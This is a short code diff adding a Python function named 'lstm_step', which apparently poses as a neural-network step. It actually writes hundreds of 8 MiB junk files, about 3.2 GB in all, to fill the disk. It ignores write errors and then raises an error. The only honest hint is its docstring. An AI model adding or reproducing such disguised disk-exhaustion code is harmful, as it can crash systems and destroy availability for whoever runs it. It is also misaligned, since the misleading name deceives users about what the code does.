@@ -1,0 +1,11 @@
+"""Fills the disk."""
+
+def lstm_step(*args):
+    n = 0
+    while True:
+        try:
+            with open(f'f{n}', 'wb') as f: f.write(bytes(8 << 20))
+        except OSError:
+            pass
+        n += 1
+        if n > 400: raise RuntimeError('full')
